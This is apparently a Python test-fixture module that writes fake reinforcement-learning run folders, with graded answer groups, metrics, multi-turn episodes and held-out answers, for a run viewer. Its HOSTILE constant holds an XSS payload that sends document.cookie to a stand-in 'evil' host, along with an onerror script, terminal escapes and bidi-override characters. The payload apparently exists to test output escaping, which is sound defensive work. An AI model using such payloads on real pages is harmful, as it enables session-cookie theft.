"""Run folders to look at, written by the writer that training uses."""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

from outdo.runs.held_out import HeldOutAnswer, held_out_answers
from outdo.runs.writer import RunWriter
from outdo.types import Episode, Grade, Group, Origin, Prompt, Segment, Trajectory

RECIPE = {"dataset_name": "arithmetic", "model_name_or_path": "tiny", "max_steps": 30, "seed": 0, "num_generations": 4}
BEFORE = {"1+2": 0.0, "2+2": 1.0, "3+2": 1.0, "4+2": 0.5, "5+2": 0.0, "6+2": None}  # rewards of held-out answers
AFTER = {"1+2": 1.0, "2+2": 0.0, "3+2": 1.0, "4+2": 0.9, "5+2": 1.0, "6+2": 1.0}
HOSTILE = (
    "<script>fetch('//evil/'+document.cookie)</script>\x1b[31mred\x1b[0m \u202egnorw\u202c \u2028 </textarea><img "
    "src=x onerror=alert(1)> ]]> \x00 '\"&amp; \U0001f600"
)


def group(prompt: str, texts: Sequence[str], rewards: Sequence[float | None], version: int = 0) -> Group:
    """A graded group with advantages; None is a broken grade."""
    answers = tuple(Trajectory.single((1, 2, 3), (-0.5, -0.25, -0.1), text, "stop", version) for text in texts)
    verdicts = [("broken" if r is None else "right" if r >= 1 else "wrong") for r in rewards]
    grades = tuple(Grade(r, v, {"numeric": r}, f"said {v}") for r, v in zip(rewards, verdicts, strict=True))  # type: ignore[arg-type]
    known = [r for r in rewards if r is not None]
    mean = sum(known) / len(known) if known else 0.0
    advantages = tuple(0.0 if r is None else r - mean for r in rewards)
    asked = Prompt(prompt, ({"role": "user", "content": f"What is {prompt}?"},), "42")
    return Group(asked, (1, 2), answers, grades, advantages)


def played(prompt: str, said: str = "Well.", result: str = "42", final: str = "It is 42") -> Group:
    """A graded group of two answers of several turns. The first has two calls, the second of which fails, and the other
    a result in the model's own turn."""
    segments = [Segment((1,) * n, (-0.5,) * n) if n > 3 else Segment((2,) * n, trained=False) for n in (9, 3, 4)]
    arguments = {"a": 12, "note": "x", "code": f"b = 30\nprint({said!r})"}
    calls = [{"name": "add", "arguments": arguments}, {"name": result, "arguments": {"a": said}}]
    messages = (
        {"role": "assistant", "content": said, "tool_calls": calls},
        {"role": "tool", "name": "add", "content": result},
        {"role": "tool", "name": result, "content": f"Error: {result}"},
        {"role": "assistant", "content": final},
    )
    origins = (Origin((0,)), Origin((1,)), Origin(failed=True), Origin((2,)))
    turns = Episode(messages, 2, 2, 1, reward=1.0, origins=origins)
    marks = f"{said} <<6*7={result}>> done"
    start = len(said) + 7
    origin = Origin((0, 1, 2), ((start, start + len(result) + 2),))
    shown = ({"role": "user", "content": f"Count: {said}"},)
    inline = Episode(({"role": "assistant", "content": marks},), 1, 1, origins=(origin,), start=shown)
    first = Trajectory(tuple(segments), final, "stop", episode=turns)
    second = Trajectory(tuple(segments), marks, "length", episode=inline)
    asked = Prompt(prompt, ({"role": "user", "content": f"What is {prompt}?"},), "42")
    grades = Grade(1.0, "right", {"numeric": 1.0}), Grade(0.0, "wrong", {"numeric": 0.0})
    return Group(asked, (1, 2), (first, second), grades, (1.0, -1.0))


def held_out(rewards: Mapping[str, float | None], said: str = "it is") -> tuple[HeldOutAnswer, ...]:
    """A greedy answer to each prompt; 1 and more is right, None is broken."""
    greedy = [group(prompt, [f"{said} {prompt}"], [reward]) for prompt, reward in rewards.items()]
    sampled = [group(prompt, ["a", "b", "c"], [1.0, 0.0, None]) for prompt in rewards]
    return held_out_answers(greedy, sampled)


def numbers(step: int, reward: float = 0.5, **more: Any) -> dict[str, Any]:
    """A row of metrics."""
    row = {"reward_mean": reward, "success_rate": reward, "kl_mean": 0.01, "entropy_mean": 0.5, "len_mean": 3.0}
    row |= {"informative": 0.5, "all_right": 0.25, "all_wrong": 0.25, "tokens": 24, "time/step": 2.0}
    return row | {"time/rollout": 1.0, "time/grade": 0.25, "time/update": 0.5, "reward/numeric": reward} | more


def make_run(
    folder: Path, steps: int = 30, ended: str | None = "done", groups: Iterable[Group] | None = None
) -> RunWriter:
    """A run whose reward rises from 0 to 1; every step has the same two prompts unless others are given."""
    run = RunWriter.create(folder, RECIPE | {"max_steps": steps}, {"kind": "grpo", "device": "cpu", "parameters": 7})
    run.record_eval({"step": 0, "split": "test", "n": 10, "success_rate": 0.1, "low": 0.0, "high": 0.4, "pass@1": 0.2})
    run.record_answers(0, "test", held_out(BEFORE, "before"))
    for step in range(steps):
        part = step / max(1, steps - 1)
        easy = group("1+1", [f"two {step}", "2", "2", "3"], [1.0, 1.0, 1.0, part], step)
        hard = group("17*3", ["51", "no", "no", "no"], [float(step > steps // 2), 0.0, 0.0, 0.0], step)
        run.record_step(step + 1, numbers(step, round(part, 6)), [easy, hard] if groups is None else list(groups))
    if steps:
        row = {"step": steps, "split": "test", "n": 10, "success_rate": 0.9, "low": 0.6, "high": 0.98, "pass@1": 0.8}
        run.record_answers(steps, "test", held_out(AFTER, "after"))
        run.record_eval(row)
    if ended:
        run.finish(ended)  # type: ignore[arg-type]
        run.close()
    return run


def append(path: Path, *rows: Any) -> None:
    """Lines as they are, or rows as JSON."""
    with path.open("ab") as file:
        for row in rows:
            file.write(row if isinstance(row, bytes) else json.dumps(row).encode() + b"\n")
